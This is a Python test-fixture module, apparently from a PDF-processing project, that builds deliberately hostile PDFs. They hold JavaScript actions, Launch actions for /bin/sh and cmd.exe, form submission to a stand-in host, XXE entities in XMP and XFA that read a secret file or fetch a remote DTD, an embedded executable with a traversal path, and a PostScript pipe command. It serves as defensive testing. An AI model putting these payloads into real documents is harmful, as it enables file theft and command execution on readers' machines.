# SPDX-License-Identifier: AGPL-3.0-or-later
"""Files that want something done: scripts run, programs started, pages of others fetched, files of the system read."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.faults.raw import Raw, bound

Maker = Callable[[Path], Path]

#: where such files send a reader; a name that nobody has (RFC 2606), and an address set aside for documents (RFC 5737)
HOST = b"weir.invalid"
ADDRESS = b"192.0.2.7"
#: what they would have read; a mark that a test puts there would have to turn up somewhere
SECRET = b"/tmp/foldproof-secret"
BLOCK = b"0 g 50 50 100 100 re f"


def _of(build: Callable[[Raw], tuple[bytes, bytes, bytes, bytes]]) -> Maker:
    def make(path: Path) -> Path:
        raw = Raw()
        resources, content, page, catalog = build(raw)
        return bound(path, raw, content=raw.stream(content), resources=resources, page=page, catalog=catalog)

    return make


SCRIPT = (
    b"/S /JavaScript /JS (app.launchURL\\('http://%s/'\\); this.exportDataObject\\({cName: 'a', nLaunch: 2}\\);)" % HOST
)


def _opening(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    return b"", BLOCK, b"", b"/OpenAction << %s >>" % SCRIPT


def _named(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    return b"", BLOCK, b"", b"/Names << /JavaScript << /Names [(go) << %s >>] >> >>" % SCRIPT


def _turning(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    return b"", BLOCK, b"/AA << /O << %s >> /C << %s >> >>" % (SCRIPT, SCRIPT), b""


def _field(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    field = raw.add(
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /F 4 /Rect [10 10 90 30] /AA << /K << %s >> /F << %s >> >> "
        b"/A << %s >> >>" % (SCRIPT, SCRIPT, SCRIPT)
    )
    return b"", BLOCK, b"/Annots [%d 0 R]" % field, b"/AcroForm << /Fields [%d 0 R] /NeedAppearances true >>" % field


def _action(entries: bytes) -> Maker:
    def build(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
        link = raw.add(b"<< /Type /Annot /Subtype /Link /F 4 /Rect [10 10 90 30] /A << %s >> >>" % entries)
        return b"", BLOCK, b"/Annots [%d 0 R]" % link, b"/OpenAction << %s >>" % entries

    return _of(build)


def _outside(file: bytes) -> Maker:
    """A content stream and a picture whose data are said to lie in another file (7.3.8.2)."""

    def make(path: Path) -> Path:
        raw = Raw()
        picture = raw.stream(
            b"",
            b"/Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceGray /F %s"
            % file,
        )
        content = raw.stream(b"q 90 0 0 90 50 50 cm /X Do Q", b"/F %s /FFilter /FlateDecode" % file)
        return bound(path, raw, content=content, resources=b"/XObject << /X %d 0 R >>" % picture)

    return make


def _reference(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    form = raw.form(BLOCK, b"/Ref << /F << /Type /Filespec /F (%s) /UF (%s) >> /Page 0 >>" % (SECRET, SECRET))
    return b"/XObject << /X %d 0 R >>" % form, b"/X Do", b"", b""


def _profile(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    profile = raw.stream(b"", b"/N 4 /F (%s)" % SECRET)
    intent = (
        b"<< /Type /OutputIntent /S /GTS_PDFX /OutputConditionIdentifier (Weir) /DestOutputProfileRef "
        b"<< /ProfileName (Weir) /URLs [<< /FS /URL /F (http://%s/weir.icc) >>] >> >>" % HOST
    )
    return (
        b"/ColorSpace << /C [/ICCBased %d 0 R] >>" % profile, b"/C cs 0 0 0 1 sc 50 50 100 100 re f", b"",
        b"/OutputIntents [%s]" % intent,
    )  # fmt: skip


def _xfa(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    words = (
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file://%s'><!ENTITY h SYSTEM 'http://%s/'>]>"
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script>&e;&h;</script></template></xdp:xdp>"
        % (SECRET, HOST)
    )
    return b"", BLOCK, b"", b"/AcroForm << /Fields [] /XFA %d 0 R >>" % raw.stream(words)


def _xmp(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    words = (
        b"<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file://%s'>"
        b"<!ENTITY %% h SYSTEM 'http://%s/a.dtd'> %%h;]><x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF "
        b"xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description "
        b"xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>&e;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
        b"<?xpacket end='w'?>" % (SECRET, HOST)
    )
    return b"", BLOCK, b"", b"/Metadata %d 0 R" % raw.stream(words, b"/Type /Metadata /Subtype /XML")


def _attached(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    inside = raw.stream(b"MZ a program", b"/Type /EmbeddedFile /Subtype /application#2fx-msdownload")
    file = raw.add(b"<< /Type /Filespec /F (../../weir.exe) /UF (../../weir.exe) /EF << /F %d 0 R >> >>" % inside)
    pin = raw.add(b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS %d 0 R >>" % file)
    return (
        b"", BLOCK, b"/Annots [%d 0 R]" % pin, b"/Names << /EmbeddedFiles << /Names [(a) %d 0 R] >> >>" % file,
    )  # fmt: skip


def _postscript(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    code = b"(%s) (r) file pop (%%pipe%%touch /tmp/foldproof-was-here) (w) file pop" % SECRET
    program = raw.stream(code, b"/Type /XObject /Subtype /PS")
    form = raw.form(BLOCK, b"/Subtype2 /PS /PS %d 0 R" % program)
    return b"/XObject << /X %d 0 R /Y %d 0 R >>" % (program, form), b"/X Do /Y Do", b"", b""


def _opi(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    form = raw.form(
        BLOCK, b"/OPI << /1.3 << /Type /OPI /Version 1.3 /F (%s) /Size [9 9] /CropRect [0 0 9 9] >> >>" % SECRET
    )
    return b"/XObject << /X %d 0 R >>" % form, b"/X Do", b"", b""


def _film(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    film = raw.add(
        b"<< /Type /Annot /Subtype /Movie /F 4 /Rect [10 10 90 90] /Movie << /F (http://%s/a.avi) /Poster true >> "
        b"/A true >>" % HOST
    )
    return b"", BLOCK, b"/Annots [%d 0 R]" % film, b""


def _font_outside(raw: Raw) -> tuple[bytes, bytes, bytes, bytes]:
    program = raw.stream(b"", b"/F (%s) /Length1 100" % SECRET)
    descriptor = raw.add(
        b"<< /Type /FontDescriptor /FontName /Weir /Flags 4 /FontBBox [0 0 9 9] /ItalicAngle 0 /Ascent 8 /Descent 0 "
        b"/CapHeight 7 /StemV 8 /FontFile2 %d 0 R >>" % program
    )
    font = raw.add(b"<< /Type /Font /Subtype /TrueType /BaseFont /Weir /FontDescriptor %d 0 R >>" % descriptor)
    return b"/Font << /F %d 0 R >>" % font, b"BT /F 12 Tf 50 50 Td (A) Tj ET", b"", b""


_FILE = b"<< /Type /Filespec /F (%s) /UF (%s) >>" % (SECRET, SECRET)
_URL = b"<< /FS /URL /F (http://%s/a) >>" % ADDRESS

FAULTS: dict[str, Maker] = {
    "script: on opening": _of(_opening),
    "script: by name": _of(_named),
    "script: on turning to a page": _of(_turning),
    "script: of a field": _of(_field),
    "action: Launch": _action(b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>"),
    "action: URI": _action(b"/S /URI /URI (http://%s/)" % HOST),
    "action: GoToR": _action(b"/S /GoToR /F %s /D [0 /Fit]" % _FILE),
    "action: GoToE": _action(b"/S /GoToE /F %s /T << /R /C /N (a) >> /D [0 /Fit]" % _FILE),
    "action: SubmitForm": _action(b"/S /SubmitForm /F %s /Flags 4" % _URL),
    "action: ImportData": _action(b"/S /ImportData /F %s" % _FILE),
    "outside: stream in a file": _outside(_FILE),
    "outside: stream at an address": _outside(_URL),
    "outside: reference XObject": _of(_reference),
    "outside: profile": _of(_profile),
    "outside: font program": _of(_font_outside),
    "outside: OPI": _of(_opi),
    "outside: film": _of(_film),
    "outside: entities in XMP": _of(_xmp),
    "form: XFA": _of(_xfa),
    "attached: a program": _of(_attached),
    "PostScript XObject": _of(_postscript),
}
